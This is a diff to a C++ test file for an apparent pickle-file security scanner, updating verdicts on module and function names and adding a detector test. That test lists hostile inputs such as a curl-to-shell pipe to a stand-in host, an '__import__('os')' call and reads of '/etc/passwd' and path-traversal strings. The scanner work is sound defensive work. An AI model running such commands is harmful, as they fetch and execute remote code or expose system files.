@@ -1,6 +1,7 @@
 // The verdicts of names, by what they resolve to.
 #include <doctest/doctest.h>
 
+#include "base/text.h"
 #include "formats/pickle/names.h"
 #include "formats/pickle/policy.h"
 
@@ -9,7 +10,7 @@ using namespace parapet::pickle;
 
 namespace {
 Verdict verdict(std::string_view module, std::string_view name, How how = How::import) {
-  return judge_use(judge(module, name), module, name, how).verdict;
+  return judge_use(judge(module, name), how).verdict;
 }
 }  // namespace
 
@@ -119,9 +120,11 @@ TEST_CASE("a prefix earns nothing") {
   CHECK(verdict("osx", "path") == Verdict::unknown);
 }
 
-TEST_CASE("the standard library beyond the tables: named is unknown, called is dangerous") {
+TEST_CASE("the standard library beyond the tables: named is unknown, called is suspicious") {
   CHECK(verdict("fnmatch", "filter") == Verdict::unknown);
-  CHECK(verdict("fnmatch", "filter", How::reduce) == Verdict::dangerous);
+  CHECK(verdict("fnmatch", "filter", How::reduce) == Verdict::suspicious);
+  CHECK(verdict("math", "sqrt") == Verdict::safe);
+  CHECK(judge_use(judge("math", "sqrt"), How::reduce, false).verdict == Verdict::suspicious);
   CHECK(verdict("calendar", "Calendar", How::newobj) == Verdict::unknown);
 }
 
@@ -132,17 +135,27 @@ TEST_CASE("classes of libraries that are dangerous as a whole count less while o
 }
 
 TEST_CASE("every row of the tables is judged as it says") {
-  for (const auto& row : safe_names()) {
-    std::size_t at = row.names.find(' ');
-    auto name = row.names.substr(0, at);
-    CHECK_MESSAGE(judge(row.module, name).verdict == Verdict::safe, row.module, " ", name);
-  }
+  for (auto rows : {safe_names(), safe_library_names()})
+    for (const auto& row : rows)
+      for (auto name : split(row.names, ' '))
+        CHECK_MESSAGE(judge(row.module, name).verdict == Verdict::safe, row.module, " ", name);
   for (auto rows : {dangerous_names(), dangerous_library_names()})
     for (const auto& row : rows) {
       auto name = row.names.substr(0, row.names.find(' '));
       if (name == "*") name = "anything_at_all";
       CHECK_MESSAGE(judge(row.module, name).verdict == Verdict::dangerous, row.module, " ", name);
     }
+}
+
+TEST_CASE("arguments that only an attacker hands to an unknown function") {
+  for (std::string_view s :
+       {"sh -c true", "curl http://example.invalid | sh", "/bin/true", "../../x",
+        "http://example.invalid", "__import__('os')", "powershell", "/etc/passwd"})
+    CHECK_MESSAGE(!attack_in(s).empty(), s);
+  for (std::string_view s :
+       {"relu", "bert-base-uncased", "cat", "id", "head", "python", "models/a.bin", "a; b",
+        "text with | bars", "sh", "w:0", "<unk>", "[a-z]+\\s"})
+    CHECK_MESSAGE(attack_in(s).empty(), s);
 }
 
 TEST_CASE("names inside travelling code") {
